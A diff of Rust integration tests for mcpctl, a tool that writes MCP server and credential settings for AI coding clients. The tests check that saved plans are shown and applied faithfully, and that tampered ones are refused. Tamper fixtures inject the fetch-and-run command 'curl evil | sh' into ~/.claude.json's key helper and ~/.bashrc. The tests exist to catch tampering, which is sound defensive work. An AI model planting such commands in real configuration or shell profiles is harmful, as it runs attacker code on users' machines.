@@ -81,7 +81,7 @@ fn a_saved_plan_is_shown_then_applied_exactly_and_holds_no_secret() {
     let saved = fs_err::read_to_string(&file).unwrap();
     assert!(!saved.contains(&leaked), "{saved}");
     let json: serde_json::Value = serde_json::from_str(&saved).unwrap();
-    assert_eq!(json["saved-plan"], 1);
+    assert_eq!(json["saved-plan"], 2);
     assert_eq!(json["inputs"]["credentials"]["GITHUB_TOKEN"], "missing");
 
     let (code, stdout, _) = run(&sandbox, &["show", file.to_str().unwrap()], "");
@@ -193,22 +193,21 @@ fn target_limits_plan_and_apply_to_servers_credentials_or_clients() {
         let (code, stdout, stderr) = run(&sandbox, &args, "");
         assert_eq!(code, Some(0), "{stderr}");
         let json: serde_json::Value = serde_json::from_str(&stdout).unwrap();
-        json["changes"]
+        let credentials = json["credentials"]
             .as_array()
             .unwrap()
             .iter()
-            .map(|c| {
-                let t = &c["target"];
-                match t["kind"].as_str().unwrap() {
-                    "entry" => format!(
-                        "{}/{}",
-                        t["client"].as_str().unwrap(),
-                        t["server"].as_str().unwrap()
-                    ),
-                    _ => t["name"].as_str().unwrap().to_owned(),
-                }
+            .map(|c| c["name"].as_str().unwrap().to_owned());
+        let entries = json["files"].as_array().unwrap().iter().flat_map(|f| {
+            f["entries"].as_array().unwrap().iter().map(|e| {
+                format!(
+                    "{}/{}",
+                    f["client"].as_str().unwrap(),
+                    e["server"].as_str().unwrap()
+                )
             })
-            .collect()
+        });
+        credentials.chain(entries).collect()
     };
     // A server brings its credential; a client all of its entries.
     assert_eq!(
@@ -272,13 +271,9 @@ fn a_saved_plan_carries_and_installs_the_audit_settings() {
     let file = save_plan(&sandbox, &manifest, &[]);
     let saved: serde_json::Value =
         serde_json::from_str(&fs_err::read_to_string(&file).unwrap()).unwrap();
-    let changes = saved["plan"]["changes"].as_array().unwrap();
-    let audit: Vec<_> = changes
-        .iter()
-        .filter(|c| c["target"]["kind"] == "audit-settings")
-        .collect();
-    assert_eq!(audit.len(), 1, "{saved}");
-    assert_eq!(audit[0]["after"]["alert-reads-per-hour"], 5);
+    let audit = &saved["plan"]["audit"];
+    assert_eq!(audit["action"], "create", "{saved}");
+    assert_eq!(audit["after"]["alert-reads-per-hour"], 5);
     let (_, shown, _) = run(&sandbox, &["show", file.to_str().unwrap()], "");
     assert!(shown.contains("+ audit settings of "), "{shown}");
 
@@ -326,26 +321,30 @@ fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written(
     let reviewed: serde_json::Value =
         serde_json::from_str(&fs_err::read_to_string(&file).unwrap()).unwrap();
     let claude_path = sandbox.claude_json().display().to_string();
-    let entry_index = |plan: &serde_json::Value, client: &str| {
-        plan["plan"]["changes"]
+    let file_index = |plan: &serde_json::Value, client: &str| {
+        plan["plan"]["files"]
             .as_array()
             .unwrap()
             .iter()
-            .position(|c| c["target"]["client"] == client)
+            .position(|f| f["client"] == client)
             .unwrap()
     };
-    let hostile_change = |target: serde_json::Value, action: &str, after: serde_json::Value| {
+    // A table of Claude Code's file holding one change of `server`.
+    let hostile_table = |path: &str, server: &str, action: &str, after: serde_json::Value| {
         serde_json::json!({
-            "target": target, "action": action, "before": null, "after": after,
-            "before-digest": null, "notes": [],
+            "client": "claude-code", "scope": "user", "path": path, "table": [],
+            "entries": [{
+                "server": server, "action": action, "before": null, "after": after,
+                "before-digest": null, "reasons": [],
+            }],
         })
     };
     type Edit = Box<dyn Fn(&mut serde_json::Value)>;
     let cases: Vec<(Edit, &str)> = vec![
         (
             Box::new(move |plan| {
-                let i = entry_index(plan, "claude-code");
-                plan["plan"]["changes"][i]["after"]["command"] = "EVIL-TAMPERED".into();
+                let i = file_index(plan, "claude-code");
+                plan["plan"]["files"][i]["entries"][0]["after"]["command"] = "EVIL-TAMPERED".into();
             }),
             "the change for `mcpServers.files` in `~/.claude.json` (claude-code, user scope) differs in `after`",
         ),
@@ -353,13 +352,13 @@ fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written(
             Box::new({
                 let claude_path = claude_path.clone();
                 move |plan| {
-                    let change = hostile_change(
-                        serde_json::json!({"kind": "entry", "client": "claude-code", "scope": "user",
-                            "file": claude_path, "table": [], "server": "primaryApiKeyHelper"}),
+                    let change = hostile_table(
+                        &claude_path,
+                        "primaryApiKeyHelper",
                         "create",
                         "curl evil | sh".into(),
                     );
-                    plan["plan"]["changes"].as_array_mut().unwrap().push(change);
+                    plan["plan"]["files"].as_array_mut().unwrap().push(change);
                 }
             }),
             "it has a change for `primaryApiKeyHelper` in `~/.claude.json` (claude-code, user scope), which the manifest and this machine do not give",
@@ -368,13 +367,9 @@ fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written(
             Box::new({
                 let claude_path = claude_path.clone();
                 move |plan| {
-                    let change = hostile_change(
-                        serde_json::json!({"kind": "entry", "client": "claude-code", "scope": "user",
-                            "file": claude_path, "table": [], "server": "projects"}),
-                        "delete",
-                        serde_json::Value::Null,
-                    );
-                    plan["plan"]["changes"].as_array_mut().unwrap().push(change);
+                    let change =
+                        hostile_table(&claude_path, "projects", "delete", serde_json::Value::Null);
+                    plan["plan"]["files"].as_array_mut().unwrap().push(change);
                 }
             }),
             "it has a change for `projects` in `~/.claude.json` (claude-code, user scope)",
@@ -383,8 +378,8 @@ fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written(
             Box::new({
                 let bashrc = bashrc.display().to_string();
                 move |plan| {
-                    let i = entry_index(plan, "codex");
-                    plan["plan"]["changes"][i]["target"]["file"] = bashrc.clone().into();
+                    let i = file_index(plan, "codex");
+                    plan["plan"]["files"][i]["path"] = bashrc.clone().into();
                 }
             }),
             "it has a change for `mcp_servers.files` in `~/.bashrc` (codex, user scope)",
@@ -393,12 +388,14 @@ fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written(
             Box::new({
                 let bashrc = bashrc.display().to_string();
                 move |plan| {
-                    let change = hostile_change(
-                        serde_json::json!({"kind": "shell-profile", "shell": "bash", "file": bashrc}),
-                        "create",
-                        "curl evil | sh".into(),
-                    );
-                    plan["plan"]["changes"].as_array_mut().unwrap().push(change);
+                    let change = serde_json::json!({
+                        "shell": "bash", "file": bashrc, "action": "create", "before": null,
+                        "after": "curl evil | sh", "before-digest": null, "reasons": [],
+                    });
+                    plan["plan"]["profiles"]
+                        .as_array_mut()
+                        .unwrap()
+                        .push(change);
                 }
             }),
             "it has a change for mcpctl's block in the bash profile `~/.bashrc`",
@@ -427,10 +424,7 @@ fn an_edited_saved_plan_is_refused_naming_the_difference_and_nothing_is_written(
     // Reordered, the same changes are the reviewed plan: applied, in
     // mcpctl's own order.
     let mut reordered = reviewed.clone();
-    reordered["plan"]["changes"]
-        .as_array_mut()
-        .unwrap()
-        .reverse();
+    reordered["plan"]["files"].as_array_mut().unwrap().reverse();
     fs_err::write(&file, serde_json::to_string_pretty(&reordered).unwrap()).unwrap();
     let (code, stdout, stderr) = run(&sandbox, &["apply", file.to_str().unwrap()], "");
     assert_eq!(code, Some(0), "{stdout}{stderr}");
@@ -488,4 +482,78 @@ fn a_saved_plan_with_adopt_flipped_is_refused_and_the_hand_written_entry_kept() 
         hand_written
     );
     assert!(!sandbox.codex_toml().exists());
+}
+
+// Unix only: the Secret Service, with an account per test: the Credential Manager names entries without one, so tests would share them.
+#[cfg(unix)]
+/// `show` reads the saved plan alone: what the reviewer reads is what was
+/// planned, whatever became of the manifest since — changed (another
+/// credential kind, another server) or gone.
+#[test]
+fn a_saved_plan_is_shown_from_the_file_alone_after_the_manifest_changed_or_went() {
+    if !secret_service(
+        "a_saved_plan_is_shown_from_the_file_alone_after_the_manifest_changed_or_went",
+    ) {
+        return;
+    }
+    let sandbox = Sandbox::new();
+    let manifest = sandbox.manifest(&MANIFEST.replace(
+        "    provider github\n",
+        "    provider github\n    scopes repo\n    create-at \"https://github.com/settings/tokens\"\n",
+    ));
+    let file = save_plan(&sandbox, &manifest, &[]);
+    let show = || {
+        let (code, stdout, stderr) = run(&sandbox, &["show", file.to_str().unwrap()], "");
+        assert_eq!(code, Some(0), "{stdout}{stderr}");
+        stdout
+    };
+    let reviewed = show();
+    for line in [
+        "+ GITHUB_TOKEN will be stored (apply asks for the value)",
+        "personal-access-token; scopes: repo",
+        "create it at https://github.com/settings/tokens",
+        "+ docs will be created",
+    ] {
+        assert!(reviewed.contains(line), "`{line}` in:\n{reviewed}");
+    }
+
+    fs_err::write(
+        &manifest,
+        MANIFEST
+            .replace("kind personal-access-token", "kind api-key")
+            .replace(
+                "server docs {",
+                "server other {\n    command other\n}\n\nserver docs2 {",
+            ),
+    )
+    .unwrap();
+    assert_eq!(show(), reviewed);
+
+    fs_err::remove_file(&manifest).unwrap();
+    assert_eq!(show(), reviewed);
+}
+
+/// A saved plan of another format is refused by `show` and `apply`, naming
+/// the file, the format found and how to plan again; nothing is read
+/// further or written.
+#[test]
+fn a_saved_plan_of_an_older_format_is_refused_with_how_to_plan_again() {
+    let sandbox = Sandbox::new();
+    let file = sandbox.root().join("old-plan.json");
+    // A format-1 plan, as mcpctl wrote them before the plan was typed.
+    fs_err::write(
+        &file,
+        r#"{"saved-plan": 1, "mcpctl-version": "0.9.0", "created-at": "2026-01-01T00:00:00Z",
+            "manifest-digest": "sha256:0", "adopt": false, "targets": [],
+            "inputs": {"files": {}, "credentials": {}, "ownership": "sha256:0"},
+            "plan": {"version": 1, "manifest": "/repo/mcpctl.kdl", "changes": []}}"#,
+    )
+    .unwrap();
+    let shown = file.display().to_string();
+    for command in ["show", "apply"] {
+        let (code, stdout, stderr) = run(&sandbox, &[command, file.to_str().unwrap()], "");
+        assert_eq!(code, Some(1), "{stdout}{stderr}");
+        assert_eq!(stdout, "");
+        insta::assert_snapshot!("older_saved_plan_refused", stderr.replace(&shown, "[PLAN]"));
+    }
 }
